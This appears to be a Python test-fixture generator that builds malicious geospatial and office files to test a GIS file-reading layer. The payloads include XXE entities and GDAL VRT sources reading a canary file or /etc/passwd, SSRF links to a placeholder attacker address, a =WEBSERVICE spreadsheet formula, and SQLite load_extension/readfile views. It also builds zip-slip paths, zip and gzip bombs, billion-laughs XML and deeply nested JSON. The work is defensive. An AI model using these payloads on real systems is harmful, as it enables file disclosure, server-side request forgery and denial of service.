"""Files that mean harm: they point at other files or addresses, or want memory and time without measure.

`CANARY` and `ADDRESS` stand for a file with a secret in it, and for a server of whoever made the file.
"""

import gzip
import io
import json
import sqlite3
import stat
import struct
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import closing
from functools import cache
from itertools import chain, product
from pathlib import Path
from typing import Any

import numpy as np

from layers.writing import write_frame
from tests.layers import making

SECRET = "canary-4417"
_SQUARE = '{"type":"Polygon","coordinates":[[[126,43],[126.001,43],[126.001,43.001],[126,43]]]}'
_FEATURE = f'{{"type":"Feature","properties":{{}},"geometry":{_SQUARE}}}'
_GEOJSON = f'{{"type":"FeatureCollection","features":[{_FEATURE}]}}'


def hostile_files(canary: Path, address: str) -> Iterator[tuple[str, bytes]]:
    """Yield the name and the bytes of each file."""
    for number, (name, content) in enumerate(_files(str(canary), address)):
        yield f"{number:03d}-{name}", content if isinstance(content, bytes) else content.encode()


def _files(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    yield from _of_gdal(canary, address)
    yield from _of_json(canary, address)
    yield from _of_xml(canary, address)
    yield from _of_tables(canary, address)
    yield from _of_databases(canary, address)
    yield from _of_drawings(canary)
    yield from _of_archives(canary)
    yield from _without_measure()


def _of_gdal(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    """Yield what GDAL opens by its content, whatever it is called."""
    sources = [canary, "CSV:/etc/passwd", address, f"/vsicurl/{address}/x.geojson", f"/vsizip/{canary}"]
    suffixes = ("vrt", "geojson", "gml", "kml", "dxf", "gpkg")
    for source, suffix in chain(zip(sources, suffixes, strict=False), zip(reversed(sources), suffixes, strict=False)):
        layer = f'<OGRVRTLayer name="x"><SrcDataSource>{source}</SrcDataSource></OGRVRTLayer>'
        yield f"vrt.{suffix}", f"<OGRVRTDataSource>{layer}</OGRVRTDataSource>"
    for source, suffix in product((canary, f"/vsicurl/{address}/x.geojson"), ("gdalg.json", "geojson", "json")):
        command = f"gdal vector pipeline ! read {source} ! write --output-format stream streamed_dataset"
        yield f"gdalg.{suffix}", json.dumps({"type": "gdal_streamed_alg", "command_line": command})
    for suffix in ("gml", "xml", "geojson"):
        yield f"wfs.{suffix}", f"<OGRWFSDataSource><URL>{address}/wfs?SERVICE=WFS</URL></OGRWFSDataSource>"
        yield f"wms.{suffix}", f'<GDAL_WMS><Service name="TMS"><ServerUrl>{address}</ServerUrl></Service></GDAL_WMS>'
    for text in (f"OAPIF:{address}", f"CSW:{address}", f"/vsicurl/{address}", f"PG:host={address}", f"GMLAS:{canary}"):
        yield "connection.txt", text


def _of_json(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    for href in (f"{address}/crs", f"file://{canary}", canary, "//127.0.0.1/crs", f"ftp{address[4:]}"):
        crs = {"type": "link", "properties": {"href": href, "type": "proj4"}}
        yield "crs.geojson", _with(_GEOJSON, crs=crs)
    yield "feature-crs.geojson", _GEOJSON.replace('"properties":{}', f'"properties":{{}},"crs":{json.dumps(crs)}')
    yield "line-crs.geojsonl", f"{_with(_FEATURE, crs=crs)}\n{_FEATURE}\n"
    for name in (
        address,
        f"{address}/EPSG/0/4490",
        f"file://{canary}",
        f"+proj=longlat +nadgrids={canary}",
        f"@{canary}",
    ):
        yield "crs-name.geojson", _with(_GEOJSON, crs={"type": "name", "properties": {"name": name}})
    for ref in (
        f"{address}/def/crs/EPSG/0/4490",
        {"type": "Reference", "href": address},
        [address],
        f"file://{canary}",
    ):
        yield (
            "fg.jsonfg",
            _with(_GEOJSON, conformsTo=["http://www.opengis.net/spec/json-fg-1/0.3/conf/core"], coordRefSys=ref),
        )
    city: dict[str, Any] = {"type": "CityJSON", "version": "2.0", "vertices": [], "CityObjects": {}}
    city["transform"] = {"scale": [1, 1, 1], "translate": [0, 0, 0]}
    yield "system.city.json", json.dumps(city | {"metadata": {"referenceSystem": address}})
    yield "extension.city.json", json.dumps(city | {"extensions": {"x": {"url": address, "version": "1"}}})
    yield "texture.city.json", json.dumps(city | {"appearance": {"textures": [{"type": "PNG", "image": address}]}})


def _of_xml(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))
    doctypes = {
        "entity-file": f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}">]>',
        "entity-http": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{address}/x">]>',
        "entity-parameter": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{address}/p"> %p;<!ENTITY x "y">]>',
        "external-dtd": f'<!DOCTYPE r SYSTEM "{address}/r.dtd">',
        "laughs": f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l11;">]>',
        "quadratic": f'<!DOCTYPE r [<!ENTITY x "{"a" * 100_000}">]>',
    }
    for (name, doctype), kind in product(doctypes.items(), ("kml", "gml")):
        text = "" if name == "external-dtd" else "&x;" * (1 if name != "quadratic" else 2_000)
        yield f"{name}.{kind}", _XML[kind].format(head=doctype, more="", text=text, namespace="")
    place = f"{address}/schema {address}/schema.xsd"
    link = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'
    for kind, document in _XML.items():
        schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{place}"'
        yield f"schema.{kind}", document.format(head="", more="", text="a", namespace=schema)
        sheet = f'<?xml-stylesheet type="text/xsl" href="{address}/x.xsl"?>'
        yield f"stylesheet.{kind}", document.format(head=sheet, more="", text="a", namespace="")
        yield f"include.{kind}", document.format(head="", more=link, text=link, namespace="")
        yield f"deep.{kind}", document.format(head="", more="<a>" * 100_000, text="", namespace="")
    for more in (
        f"<NetworkLink><Link><href>{address}/x.kml</href></Link></NetworkLink>",
        f"<NetworkLink><Link><href>file://{canary}</href></Link></NetworkLink>",
        f"<GroundOverlay><Icon><href>{address}/x.png</href></Icon></GroundOverlay>",
        f"<Placemark><styleUrl>{address}/style.kml#a</styleUrl><Point><coordinates>126,43</coordinates></Point></Placemark>",
        f'<Schema id="{address}" name="x"/>',
    ):
        yield "link.kml", _XML["kml"].format(head="", more=more, text="a", namespace="")
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    for href in (f"{address}/g#a", f"file://{canary}#a"):
        more = f'<wfs:member><a:h><a:geom xlink:href="{href}"/></a:h></wfs:member>'
        yield "xlink.gml", _XML["gml"].format(head="", more=more, text="a", namespace=xlink)
        yield (
            "srs.gml",
            _XML["gml"].replace("urn:ogc:def:crs:EPSG::4490", href).format(head="", more="", text="", namespace=""),
        )


_XML = {
    "kml": '<?xml version="1.0"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2" {namespace}><Document>{more}<Placemark>'
    "<name>{text}</name><Point><coordinates>126,43</coordinates></Point></Placemark></Document></kml>",
    "gml": '<?xml version="1.0"?>{head}<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs/2.0" xmlns:a="http://a"'
    ' xmlns:gml="http://www.opengis.net/gml/3.2" {namespace}>{more}<wfs:member><a:h><a:name>{text}</a:name><a:geom><gml:Point'
    ' srsName="urn:ogc:def:crs:EPSG::4490"><gml:pos>43 126</gml:pos></gml:Point></a:geom></a:h></wfs:member>'
    "</wfs:FeatureCollection>",
}


def _of_tables(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    yield "formula.csv", f'名称,WKT\n"=WEBSERVICE(""{address}"")","POINT (126 43)"\n'
    yield "wide.csv", ",".join(f"c{i}" for i in range(20_000)) + "\n" + ",".join("1" for _ in range(20_000)) + "\n"
    yield "line.txt", "[属性描述]\n坐标系=" + "2" * 10_000_000 + "\n[地块坐标]\n"
    workbook = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" '
        'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _RELATIONS.format(target="worksheets/sheet1.xml", mode=""),
    }
    sheet = '<?xml version="1.0"?>{0}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    sheet += '<row r="1"><c r="{1}" t="str"><v>{2}</v></c></row></sheetData></worksheet>'
    entity = f'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{canary}">]>'
    yield "entity.xlsx", _zip({**workbook, "xl/worksheets/sheet1.xml": sheet.format(entity, "A1", "&x;")})
    yield "far.xlsx", _zip({**workbook, "xl/worksheets/sheet1.xml": sheet.format("", "XFD1048576", "1")})
    yield "bomb.xlsx", _zip({**workbook, "xl/worksheets/sheet1.xml": sheet.format("", "A1", "0" * (40 << 20))})
    for target in (f"file://{canary}", f"{address}/sheet.xml", "../../../../etc/passwd"):
        relations = {"xl/_rels/workbook.xml.rels": _RELATIONS.format(target=target, mode='TargetMode="External"')}
        yield "relation.xlsx", _zip({**workbook, **relations})


_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="{target}" {mode}/>'
    "</Relationships>"
)


def _of_databases(canary: str, address: str) -> Iterator[tuple[str, str | bytes]]:
    endless = "with recursive n(i) as (select 1 union all select i + 1 from n) select i as fid, null as geom from n"
    views = {
        "endless": endless,
        "blobs": "select 1 as fid, zeroblob(1000000000) as geom union all select 2, zeroblob(1000000000)",
        "extension": f"select load_extension('{canary}') as fid, null as geom",
        "layers": f"select ogr_datasource_load_layers('{canary}') as fid, null as geom",
        "readfile": f"select 1 as fid, readfile('{canary}') as geom",
    }
    for name, select in views.items():
        yield f"view-{name}.gpkg", _geopackage(f'drop table "seed"; create view "seed" as {select}')
    yield (
        "virtual.gpkg",
        _geopackage(
            "pragma writable_schema = on; insert into sqlite_master values ('table', 'v', 'v', 0, "
            f"'create virtual table v using VirtualOGR(''{canary}'')')"
        ),
    )
    yield "trigger.gpkg", _geopackage('create trigger t after insert on "seed" begin delete from "seed"; end')
    for definition in (address, f"@{canary}", f"+proj=longlat +nadgrids={canary}", "x" * 5_000_000):
        yield (
            "system.gpkg",
            _geopackage(f"update gpkg_spatial_ref_sys set definition = '{definition}' where srs_id > 0"),
        )
    rings = b"GP\x00\x01" + struct.pack("<i", 4551) + b"\x01\x03\x00\x00\x00" + struct.pack("<I", 0x7FFFFFFF)
    yield "rings.gpkg", _geopackage(f"update seed set geom = x'{rings.hex()}'")
    deep = b"GP\x00\x01" + struct.pack("<i", 4551) + b"\x01\x07\x00\x00\x00\x01\x00\x00\x00" * 200_000
    yield "collections.gpkg", _geopackage(f"update seed set geom = x'{deep.hex()}'")


def _geopackage(statements: str) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "seed.gpkg"
        path.write_bytes(_sound_geopackage())
        with closing(sqlite3.connect(path)) as database:
            database.create_function("ST_IsEmpty", 1, lambda _: 0)
            for name in ("ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
                database.create_function(name, 1, lambda _: 0.0)
            database.executescript(statements)
            database.commit()
        return path.read_bytes()


@cache
def _sound_geopackage() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "seed.gpkg"
        write_frame(making.frame_of(), path)
        return path.read_bytes()


def _of_drawings(canary: str) -> Iterator[tuple[str, str | bytes]]:
    def block(name: str, *entities: str, path: str = "", flags: int = 0) -> str:
        head = f"0\nBLOCK\n2\n{name}\n70\n{flags}\n10\n0\n20\n0\n" + (f"1\n{path}\n" if path else "")
        return head + "".join(entities) + "0\nENDBLK\n"

    def insert(name: str, more: str = "") -> str:
        return f"0\nINSERT\n8\n0\n2\n{name}\n10\n0\n20\n0\n{more}"

    def drawing(blocks: str, entities: str) -> str:
        return f"0\nSECTION\n2\nBLOCKS\n{blocks}0\nENDSEC\n0\nSECTION\n2\nENTITIES\n{entities}0\nENDSEC\n0\nEOF\n"

    line = "0\nLINE\n8\n0\n10\n0\n20\n0\n11\n1\n21\n1\n"
    ring = "0\nLWPOLYLINE\n8\n0\n90\n3\n70\n1\n10\n0\n20\n0\n10\n1\n20\n0\n10\n1\n20\n1\n"
    levels = "".join(block(f"b{i}", *[insert(f"b{i + 1}")] * 10) for i in range(8)) + block("b8", ring)
    yield "itself.dxf", drawing(block("a", insert("a")), insert("a"))
    yield "each-other.dxf", drawing(block("a", insert("b")) + block("b", insert("a")), insert("a"))
    yield "levels.dxf", drawing(levels, insert("b0"))
    yield "array.dxf", drawing(block("a", ring), insert("a", "70\n30000\n71\n30000\n44\n1\n45\n1\n"))
    yield "reference.dxf", drawing(block("x", path=canary, flags=4), insert("x"))
    yield "count.dxf", drawing("", "0\nLWPOLYLINE\n8\n0\n90\n2147483647\n70\n1\n10\n0\n20\n0\n")
    yield "spline.dxf", drawing("", "0\nSPLINE\n8\n0\n70\n8\n71\n2147483647\n72\n2147483647\n73\n2147483647\n" + line)
    yield "huge.dwg", b"AC1032" + b"\xff" * 4096
    yield (
        "reference.ifc",
        (
            "ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('IFC4'));\nENDSEC;\nDATA;\n"
            f"#1=IFCDOCUMENTREFERENCE('file://{canary}','1','a',$,$);\n#2=IFCPROJECT('x',$,$,$,$,$,$,(#2),#2);\nENDSEC;\n"
            "END-ISO-10303-21;\n"
        ),
    )
    yield "deep.ifc", "ISO-10303-21;\nHEADER;\nFILE_SCHEMA(('IFC4'));\nENDSEC;\nDATA;\n#1=IFCX(" + "(" * 100_000


def _of_archives(canary: str) -> Iterator[tuple[str, str | bytes]]:
    vrt = f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{canary}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    yield "vrt.zip", _zip({"a.vrt": vrt})
    yield "vrt-as.zip", _zip({"b.geojson": vrt})
    yield "beside.zip", _zip({"a.geojson": _GEOJSON, "a.vrt": vrt, "a.gfs": vrt, "a.xsd": vrt, "a.aux.xml": vrt})
    for name in (
        "../../out.geojson",
        "/etc/out.geojson",
        "..\\..\\out.geojson",
        "C:\\out.geojson",
        "a/../../b.geojson",
    ):
        yield "path.zip", _zip({name: _GEOJSON})
    link = zipfile.ZipInfo("a.geojson")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "link.zip", _zip({link: canary})
    yield "nested.zip", _zip({"a.zip": _zip({"a.geojson": _GEOJSON})})
    yield "many.zip", _zip({f"{i}.geojson": _GEOJSON for i in range(300)})
    bomb = _zip({"a.geojson": "0" * (4 << 20)})
    at = bomb.index(b"PK\x01\x02")
    yield "bomb.zip", bomb[: at + 24] + struct.pack("<I", 300 << 20) + bomb[at + 28 :]
    yield "twice.zip", _zip({"a.geojson": _GEOJSON, "A.GEOJSON": _GEOJSON})
    yield "polyglot.zip", b"\x89PNG\r\n\x1a\n" + _zip({"a.geojson": _GEOJSON})
    plain = _zip({"a.geojson": _GEOJSON, "b.geojson": _GEOJSON})
    entry = plain.index(b"PK\x01\x02")
    second = plain.index(b"PK\x01\x02", entry + 1)
    yield "overlap.zip", plain[: second + 42] + struct.pack("<I", 0) + plain[second + 46 :]
    yield "size.zip", plain[: entry + 24] + struct.pack("<I", 0x7FFFFFFF) + plain[entry + 28 :]
    yield "nameless.zip", plain[: entry + 28] + struct.pack("<3H", 0, 0, 9) + plain[entry + 34 :]
    yield "encrypted.zip", plain[: entry + 8] + b"\x01\x00" + plain[entry + 10 :]
    yield "bomb.geojson.gz", gzip.compress(b"0" * (300 << 20), 1)
    yield "twice.geojson.gz", gzip.compress(gzip.compress(_GEOJSON.encode()))
    for prj in (f"file://{canary}", f"+proj=longlat +nadgrids={canary}", "(" * 100_000, "x" * 5_000_000):
        yield "prj.zip", _shapefile({"a.prj": prj})
    yield "cpg.zip", _shapefile({"a.cpg": canary})
    yield "long-cpg.zip", _shapefile({"a.cpg": "9" * 1_000_000})
    yield "shx.zip", _shapefile({}, shx=(24, struct.pack(">i", 0x3FFFFFFF)))
    yield "shp.zip", _shapefile({}, shp=(104, struct.pack(">i", 0x7FFFFFFF)))
    yield "parts.zip", _shapefile({}, shp=(144, struct.pack("<ii", 0x7FFFFFFF, 0x7FFFFFFF)))
    yield "dbf.zip", _shapefile({}, dbf=(4, struct.pack("<I", 0x7FFFFFFF)))


def _shapefile(members: dict[str, str], **patches: tuple[int, bytes]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        shp = making.shapefile(Path(folder) / "set", "a")
        parts: dict[Any, str | bytes] = dict(making.parts(shp))
    for suffix, (at, content) in patches.items():
        data = bytes(parts[f"a.{suffix}"])  # type: ignore[arg-type]
        parts[f"a.{suffix}"] = data[:at] + content + data[at + len(content) :]
    return _zip(parts | members)


def _without_measure() -> Iterator[tuple[str, str | bytes]]:
    deep = 100_000
    yield "brackets.geojson", "[" * deep
    yield "objects.geojson", '{"a":' * deep
    yield "rings.geojson", _GEOJSON.replace("[[[126,43]", "[" * deep + "126,43]")
    yield "closed.geojson", _GEOJSON.replace('"properties":{}', f'"properties":{{"a":{"[" * deep}{"]" * deep}}}')
    yield "collections.geojson", '{"type":"GeometryCollection","geometries":[' * deep
    yield "brackets.geojsonl", f"{_FEATURE}\n{'[' * deep}\n"
    yield "brackets.city.json", '{"type":"CityJSON","version":"2.0","CityObjects":' + "[" * deep
    yield "digits.geojson", _GEOJSON.replace('"properties":{}', f'"properties":{{"a":{"9" * 5_000_000}}}')
    yield "number.geojson", _GEOJSON.replace("126,43]", f"{'9' * 5_000_000},43]")
    yield "vertices.geojson", _GEOJSON.replace("[126,43],", "[126,43]," * 50_000)
    names = [{"type": "Feature", "properties": {f"p{i}": i}, "geometry": None} for i in range(20_000)]
    yield "names.geojson", json.dumps({"type": "FeatureCollection", "features": names})
    yield "infinite.geojson", _GEOJSON.replace("126,43]", "1e999,NaN]")
    with tempfile.TemporaryDirectory() as folder:
        for suffix in ("fgb", "parquet"):
            path = Path(folder) / f"a.{suffix}"
            write_frame(making.frame_of(), path)
            data = path.read_bytes()
            yield f"head.{suffix}", data[:8] + struct.pack("<I", 0x7FFFFFF0) + data[12:]
            yield f"foot.{suffix}", data[:-8] + struct.pack("<I", 0x7FFFFFF0) + data[-4:]
    yield "noise.geojson", b"{" + np.random.default_rng(1).bytes(1_000_000)


def _with(document: str, **members: Any) -> str:
    return json.dumps(json.loads(document) | members)


def _zip(members: dict[Any, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()
